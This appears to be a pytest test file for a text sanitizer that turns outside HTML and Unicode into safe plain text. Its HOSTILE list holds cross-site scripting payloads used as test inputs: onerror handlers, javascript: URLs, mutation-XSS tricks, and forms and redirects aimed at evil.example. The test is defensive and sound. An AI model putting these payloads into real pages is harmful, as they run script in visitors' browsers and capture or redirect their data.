"""Text and HTML from outside come out plain, visible and harmless."""

import re

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from feeds.clean import clean_line, clean_text, looks_like_markup, plain_text, plain_title
from feeds.graphemes import cut

FAMILY = "👩\u200d👩\u200d👧"


@pytest.mark.parametrize(
    ("html", "text"),
    [
        pytest.param("<p>One</p><p>Two</p>", "One\n\nTwo", id="paragraphs"),
        pytest.param("One<br>Two<br/><br/><br/>Three", "One\nTwo\n\nThree", id="line breaks"),
        pytest.param("<h2>Why <em>not</em></h2>Because", "# Why not\n\nBecause", id="a heading"),
        pytest.param("<ul><li>a</li><li>b</li></ul>after", "- a\n- b\n\nafter", id="a list"),
        pytest.param("<ul><li><p>a</p></li>\n<li><p>b</p><p>c</p></li></ul>", "- a\n- b\n\nc", id="paragraphs in items"),
        pytest.param("<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>", "- a\n- b\n- c", id="a list in a list"),
        pytest.param("<pre><code>if a:\n    b  = 1\n\n# c</code></pre>", "if a:\n    b  = 1\n\n # c", id="code keeps lines and shape"),
        pytest.param("<pre>\ta\xa0b  \n</pre>", "    a b", id="tabs and blanks in code"),
        pytest.param("<p># no heading</p>", " # no heading", id="a paragraph that looks like a heading"),
        pytest.param("<table><tr><th>A</th><th>B</th></tr><tr><td>1</td><td>2</td></tr></table>", "A | B\n1 | 2", id="a table"),
        pytest.param("<dl><dt>SQL</dt><dd>a language</dd></dl>", "SQL\na language", id="definitions"),
        pytest.param("<div><div>x</div><!-- no --></div>", "x", id="nested blocks and comments"),
        pytest.param("<p>Fish &amp; chips &amp;amp; &lt;b&gt; &#8364;</p>", "Fish & chips &amp; <b> €", id="entities are resolved once"),
        pytest.param("a <b>b</b>c\n <i>d</i>", "a bc d", id="inline tags and blanks"),
        pytest.param("<p>a&nbsp;b&nbsp;</p>", "a b", id="fixed blanks"),
        pytest.param("<script>alert(1)</script><style>p{}</style><p>hi</p><noscript>no</noscript>", "hi", id="scripts and styles"),
        pytest.param("<p>x<script>alert(1)", "x", id="an open script"),
        pytest.param("<svg><title>t</title><text>s</text></svg><p>x</p>", "x", id="pictures"),
        pytest.param("line one\n\nline two &lt;b&gt;", "line one\n\nline two <b>", id="text without tags keeps its lines"),
        pytest.param("a < b and b > c", "a < b and b > c", id="angle brackets that are no tags"),
        pytest.param("<p>a\u202eb\u200b\u2066c</p><p>\u200b</p>", "abc", id="invisible characters"),
        pytest.param("<p></p>", "", id="nothing"),
        pytest.param("", "", id="empty"),
    ],
)
def test_plain_text(html, text):
    assert plain_text(html) == text


@pytest.mark.parametrize(
    ("title", "unknown", "html", "text"),
    [
        pytest.param("When NULL &lt;&gt; NULL", *["When NULL <> NULL"] * 3, id="escaped twice"),
        pytest.param("When NULL <> NULL", *["When NULL <> NULL"] * 3, id="angle brackets"),
        pytest.param("AT&amp;T", *["AT&T"] * 3, id="an ampersand escaped twice"),
        pytest.param("AT&T", *["AT&T"] * 3, id="an ampersand"),
        pytest.param("Tips for <b>SQL</b>", "Tips for SQL", "Tips for SQL", "Tips for <b>SQL</b>", id="markup"),
        pytest.param("The <b> tag", "The <b> tag", "The tag", "The <b> tag", id="a title about a tag"),
        pytest.param("Vec<T> in <em>Rust</em>", "Vec<T> in Rust", "Vec<T> in Rust", "Vec<T> in <em>Rust</em>", id="what is no HTML tag"),
        pytest.param('<a href="x">y</a>', "y", "y", '<a href="x">y</a>', id="a link"),
        pytest.param("x<script>alert(1)</script>", "x", "x", "x<script>alert(1)</script>", id="a script"),
        pytest.param("One<br>Two", "One Two", "One Two", "One<br>Two", id="a line break"),
    ],
)
def test_plain_title(title, unknown, html, text):
    assert (plain_title(title), plain_title(title, markup="html"), plain_title(title, markup="text")) == (unknown, html, text)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        pytest.param("report\u202efdp.exe", "reportfdp.exe", id="an override that turns a name around"),
        pytest.param("a\u2066\u2069b\u200bc\u2060d\U000e0041", "abcd", id="isolates, zero widths and tag characters"),
        pytest.param("\x00a\x07b\x85c\x9bd", "ab cd", id="controls"),
        pytest.param("Hi\r\nBcc: a@b\u2028x\u2029y", "Hi Bcc: a@b x y", id="every kind of line end"),
        pytest.param("co\u00adop\ufeff", "coop", id="soft hyphen and byte order mark"),
        pytest.param("مرحبا بالعالم", "مرحبا بالعالم", id="Arabic letters"),
        pytest.param("مرحبا\u200f (ok)", "مرحبا\u200f (ok)", id="a mark of direction in Arabic"),
        pytest.param("مرحبا\u200f\u200f\u200f", "مرحبا\u200f", id="many marks of direction"),
        pytest.param("a\u200fb\u200e", "ab", id="a mark of direction in Latin"),
        pytest.param("می\u200cخواهم", "می\u200cخواهم", id="ZWNJ in Persian"),
        pytest.param("क्\u200dष", "क्\u200dष", id="ZWJ in Hindi"),
        pytest.param("pass\u200cword x\u200dy Ż\u200d", "password xy Ż", id="joiners in Latin"),
        pytest.param(f"x {FAMILY} ❤\ufe0f 1\ufe0f\u20e3", f"x {FAMILY} ❤\ufe0f 1\ufe0f\u20e3", id="emoji"),
        pytest.param("a \ufe0fb\ufe00\ufe01\ufe02", "a b\ufe00", id="variation selectors that hide a message"),
        pytest.param("\u202e" * 500 + "x", "x", id="overrides only"),
        pytest.param("  a \t b  ", "a b", id="blanks"),
    ],
)
def test_clean_line(text, line):
    assert clean_line(text) == line


def test_clean_text_keeps_lines_and_drops_runs_of_empty_ones():
    assert clean_text("\n\na  b \r\n    code\n\n\n\nc\u202e\x07\n") == "a b\n    code\n\nc"


@pytest.mark.parametrize(
    ("text", "most", "expected"),
    [
        pytest.param("abc", 3, "abc", id="it fits"),
        pytest.param("abcd", 3, "ab…", id="it does not"),
        pytest.param("e\u0301" * 3, 3, "e\u0301" * 3, id="marks belong to their letter"),
        pytest.param("e\u0301" * 4, 3, "e\u0301" * 2 + "…", id="the cut is behind a mark"),
        pytest.param(FAMILY * 3, 2, FAMILY + "…", id="a family stays together"),
        pytest.param("🇵🇱🇧🇬🇪🇬", 2, "🇵🇱…", id="flags stay whole"),
        pytest.param("👍🏽👍🏽👍🏽", 2, "👍🏽…", id="a skin tone stays with its hand"),
        pytest.param("\u1112\u1161\u11ab" * 3, 2, "\u1112\u1161\u11ab…", id="Hangul syllables stay whole"),
        pytest.param("a" + "\u0301" * 60, 3, "a" + "\u0301" * 13 + "…", id="nobody needs sixty marks on a letter"),
        pytest.param("one two", 5, "one…", id="no blank before the dots"),
    ],
)
def test_cut(text, most, expected):
    assert cut(text, most) == expected


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>c</text></a></svg>',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>c</text></a></svg>',
    '<a href="javascript:alert(1)">c</a>',
    '<a href="java&#10;script:alert(1)">c</a>',
    '<a href=" \x01javascript:alert(1)">c</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<form action="http://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<div style="position:fixed;background:url(http://evil.example/t.gif)">x</div>',
    '<a id="csrf" name="cookie" class="btn" target="_blank" href="http://e.example/">x</a>',
    '<object data="data:text/html,<script>alert(1)</script>"></object><video poster="javascript:alert(1)" src="//e.example/v"></video>',
    '<a href="data:text/html,x">d</a><a href="file:///etc/passwd">f</a><a href="//evil.example/x">n</a>',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left_of_html(html):
    assert not re.search(r"[<=:(]|alert|evil", plain_text(html))


@pytest.mark.parametrize(
    ("text", "is_markup"),
    [("<p>x</p>", True), ("a<br>b", True), ("a < b", False), ("Vec<T>", False), ("the <b> tag", False), ("plain", False)],
)
def test_looks_like_markup(text, is_markup):
    assert looks_like_markup(text) is is_markup


@given(st.text(max_size=300))
def test_cleaning_twice_changes_nothing_more(text):
    assert clean_line(clean_line(text)) == clean_line(text)
    assert clean_text(clean_text(text)) == clean_text(text)


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=200).map(nh3.clean_text))
def test_plain_text_gives_back_what_was_escaped(escaped):
    assert "<" not in escaped
    plain_text(escaped).encode()


@given(
    st.lists(
        st.sampled_from(["<p>", "</p>", "<li>", "</ul>", "<pre>", "</pre>", "<h1>", "<td>", "<br>", "x", " ", "# y", "&lt;", "\n"]),
        max_size=30,
    )
)
def test_no_heap_of_tags_leaves_a_tag_or_three_newlines(pieces):
    text = plain_text("".join(pieces))

    assert "\n\n\n" not in text or "<pre>" in pieces
    assert not re.search(r"<(?:p|li|pre|h1|td|br)>", text)
